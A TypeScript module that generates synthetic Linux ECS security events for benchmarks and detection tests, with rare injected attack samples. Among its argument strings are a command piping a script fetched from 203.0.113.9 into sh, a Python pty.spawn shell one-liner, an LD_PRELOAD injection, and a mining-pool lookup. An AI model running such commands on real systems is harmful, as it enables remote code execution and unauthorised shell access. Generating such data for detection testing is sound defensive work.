/**
 * A deterministic generator of realistic Linux ECS events: process starts
 * and ends, file creations and modifications, network connections and DNS
 * lookups, spread over hosts, users and a process tree, with the names,
 * paths and arguments an ordinary server produces and now and then a
 * suspicious one. Used by the benchmarks and by tests that need volume.
 *
 * @module
 */

/** A small seeded PRNG (mulberry32): the same seed always gives the same stream. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const BINARIES = [
  ["bash", "/usr/bin/bash"],
  ["sh", "/usr/bin/sh"],
  ["ls", "/usr/bin/ls"],
  ["cat", "/usr/bin/cat"],
  ["grep", "/usr/bin/grep"],
  ["python3", "/usr/bin/python3"],
  ["curl", "/usr/bin/curl"],
  ["sshd", "/usr/sbin/sshd"],
  ["cron", "/usr/sbin/cron"],
  ["systemctl", "/usr/bin/systemctl"],
  ["git", "/usr/bin/git"],
  ["make", "/usr/bin/make"],
  ["gcc", "/usr/bin/gcc"],
  ["node", "/usr/bin/node"],
  ["nginx", "/usr/sbin/nginx"],
  ["sudo", "/usr/bin/sudo"],
  ["wget", "/usr/bin/wget"],
  ["chmod", "/usr/bin/chmod"],
  ["tar", "/usr/bin/tar"],
  ["apt-get", "/usr/bin/apt-get"],
  ["payload", "/tmp/.x/payload"],
  ["miner", "/dev/shm/miner"],
] as const;

const FILES = [
  "/var/log/syslog",
  "/var/log/nginx/access.log",
  "/tmp/build/out.o",
  "/var/lib/apt/lists/lock",
  "/tmp/x.sh",
  "/usr/local/bin/tool",
  "/srv/app/cache/session.db",
  "/home/alice/project/main.c",
];

/** Files that persistence and tampering rules watch: touched rarely, as on a real host. */
const SENSITIVE_FILES = [
  "/home/alice/.bash_history",
  "/etc/cron.d/backup",
  "/etc/sudoers.d/90-admin",
  "/home/bob/.ssh/authorized_keys",
];

const DOMAINS = [
  "deb.debian.org",
  "github.com",
  "api.internal.example",
  "example.org",
];

/** A mining pool: looked up rarely, by a miner on a compromised host. */
const SUSPICIOUS_DOMAIN = "pool.minexmr.com";

const SERVICES = new Set(["nginx", "sshd", "cron"]);

/** The programs that open connections and look up names on an ordinary server. */
const NETWORK_CLIENTS = new Set(["curl", "wget", "git", "apt-get", "python3", "node", "nginx"]);

/** Ports ordinary clients connect to; 22 and 4444 (ssh sweeps, reverse shells) are rare. */
const PORTS = [53, 80, 443, 5432, 8080];
const SUSPICIOUS_PORTS = [22, 4444];

/** Options of {@link syntheticEvents}. */
export interface SyntheticOptions {
  seed?: number;
  hosts?: number;
  /** Start time, epoch milliseconds. */
  startMs?: number;
  /** Mean gap between events, microseconds. */
  gapUs?: number;
}

/**
 * Yields `count` ECS event objects in timestamp order.
 *
 * @example
 * ```ts
 * for (const ev of syntheticEvents(3, { seed: 1 })) console.log(ev["event"]);
 * ```
 */
export function* syntheticEvents(
  count: number,
  opts: SyntheticOptions = {},
): Generator<Record<string, unknown>> {
  const rnd = prng(opts.seed ?? 1);
  const hosts = opts.hosts ?? 8;
  let t = BigInt(opts.startMs ?? Date.UTC(2026, 0, 1)) * 1_000_000n;
  const gap = BigInt((opts.gapUs ?? 50) * 1000);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(rnd() * xs.length)];
  let nextPid = 1000;
  const live: { pid: number; entity: string; name: string; exe: string; host: number }[] = [];
  for (let i = 0; i < count; i++) {
    t += gap / 2n + BigInt(Math.floor(rnd() * Number(gap)));
    const host = Math.floor(rnd() * hosts);
    const hostObj = { id: `host-${host}`, name: `srv${host}.example`, os: { type: "linux" } };
    let parent = live.length ? live[Math.floor(rnd() * live.length)] : undefined;
    // Services rarely spawn children; a web server spawning a shell is an attack.
    if (parent && SERVICES.has(parent.name) && rnd() < 0.99) parent = undefined;
    const user = rnd() < 0.2 ? "0" : String(1000 + Math.floor(rnd() * 3));
    const roll = rnd();
    const ts = isoNanos(t);
    const proc = parent ??
      { pid: 1, entity: `h${host}-1`, name: "systemd", exe: "/usr/lib/systemd/systemd", host };
    const processOf = (p: typeof proc) => ({
      pid: p.pid,
      entity_id: p.entity,
      name: p.name,
      executable: p.exe,
      user: { id: user },
    });
    if (roll < 0.35 || live.length < 4) {
      // Suspicious binaries (the last two) are rare, as on a real server.
      const [name, exe] = rnd() < 0.005
        ? BINARIES[BINARIES.length - 1 - Math.floor(rnd() * 2)]
        : BINARIES[Math.floor(rnd() * (BINARIES.length - 2))];
      const pid = nextPid++;
      const entity = `h${host}-${pid}`;
      const args = [name, ...argsFor(name, rnd)];
      live.push({ pid, entity, name, exe, host });
      if (live.length > 256) live.shift();
      yield {
        "@timestamp": ts,
        event: { category: ["process"], type: ["start"], action: "exec", kind: "event" },
        host: hostObj,
        process: {
          pid,
          entity_id: entity,
          name,
          executable: exe,
          args,
          args_count: args.length,
          command_line: args.join(" "),
          working_directory: pick(["/", "/tmp", "/home/alice", "/srv/app"]),
          user: { id: user },
          group: { id: user },
          parent: proc === parent
            ? processOf(proc)
            : { pid: 1, entity_id: `h${host}-1`, name: "systemd" },
          env_vars: rnd() < 0.002 ? ["LD_PRELOAD=/tmp/x.so"] : [],
        },
        user: { id: user },
      };
    } else if (roll < 0.45) {
      const idx = Math.floor(rnd() * live.length);
      const p = live[idx];
      live.splice(idx, 1);
      yield {
        "@timestamp": ts,
        event: { category: ["process"], type: ["end"], action: "end", kind: "event" },
        host: hostObj,
        process: { ...processOf(p), exit_code: rnd() < 0.9 ? 0 : 1 },
      };
    } else if (roll < 0.75) {
      const path = rnd() < 0.002 ? pick(SENSITIVE_FILES) : pick(FILES);
      const name = path.slice(path.lastIndexOf("/") + 1);
      const creation = rnd() < 0.4;
      yield {
        "@timestamp": ts,
        event: {
          category: ["file"],
          type: [creation ? "creation" : "change"],
          action: creation ? "creation" : "modification",
          kind: "event",
        },
        host: hostObj,
        process: processOf(proc),
        file: {
          path,
          name,
          directory: path.slice(0, path.lastIndexOf("/")),
          extension: name.includes(".") ? name.slice(name.lastIndexOf(".") + 1) : undefined,
        },
      };
    } else if (roll < 0.92) {
      const external = rnd() < 0.3;
      // Shells and tools connecting out are attacks: now and then only.
      const client = networkClient(proc, live, rnd);
      yield {
        "@timestamp": ts,
        event: {
          category: ["network"],
          type: ["start"],
          action: "connection_attempted",
          kind: "event",
        },
        host: hostObj,
        process: processOf(client),
        source: { ip: `10.0.0.${1 + host}`, port: 30000 + Math.floor(rnd() * 30000) },
        destination: {
          ip: external
            ? `203.0.113.${Math.floor(rnd() * 255)}`
            : `10.0.${Math.floor(rnd() * 4)}.${Math.floor(rnd() * 255)}`,
          port: rnd() < 0.002 ? pick(SUSPICIOUS_PORTS) : pick(PORTS),
        },
        network: { transport: "tcp", direction: "egress" },
      };
    } else {
      const client = networkClient(proc, live, rnd);
      yield {
        "@timestamp": ts,
        event: {
          category: ["network"],
          type: ["protocol"],
          action: "lookup_requested",
          kind: "event",
        },
        host: hostObj,
        process: processOf(client),
        dns: {
          question: { name: rnd() < 0.002 ? SUSPICIOUS_DOMAIN : pick(DOMAINS), type: "A" },
        },
        network: { transport: "udp", protocol: "dns" },
      };
    }
  }
}

/**
 * The process behind a connection or lookup: the acting process when it is a
 * network client (or, rarely, whatever it is), else the newest live client.
 */
function networkClient<P extends { name: string }>(
  proc: P,
  live: readonly P[],
  rnd: () => number,
): P {
  if (NETWORK_CLIENTS.has(proc.name) || rnd() < 0.002) return proc;
  for (let i = live.length - 1; i >= 0; i--) if (NETWORK_CLIENTS.has(live[i].name)) return live[i];
  return proc;
}

function argsFor(name: string, rnd: () => number): string[] {
  switch (name) {
    case "bash":
    case "sh":
      return rnd() < 0.005
        ? ["-c", "curl -s http://203.0.113.9/i.sh | sh"]
        : ["-c", "ls -la /srv/app"];
    case "curl":
    case "wget":
      return ["-s", "https://deb.debian.org/debian/dists/stable/Release"];
    case "python3":
      return rnd() < 0.005 ? ["-c", "import pty;pty.spawn('/bin/sh')"] : ["manage.py", "runserver"];
    case "chmod":
      return [rnd() < 0.02 ? "+x" : "644", "/tmp/x.sh"];
    default:
      return ["--version"];
  }
}

/** Formats epoch nanoseconds as an ISO timestamp with nanoseconds. */
function isoNanos(ns: bigint): string {
  const ms = Number(ns / 1_000_000n);
  return new Date(ms).toISOString().slice(0, 19) + "." +
    (ns % 1_000_000_000n).toString().padStart(9, "0") +
    "Z";
}
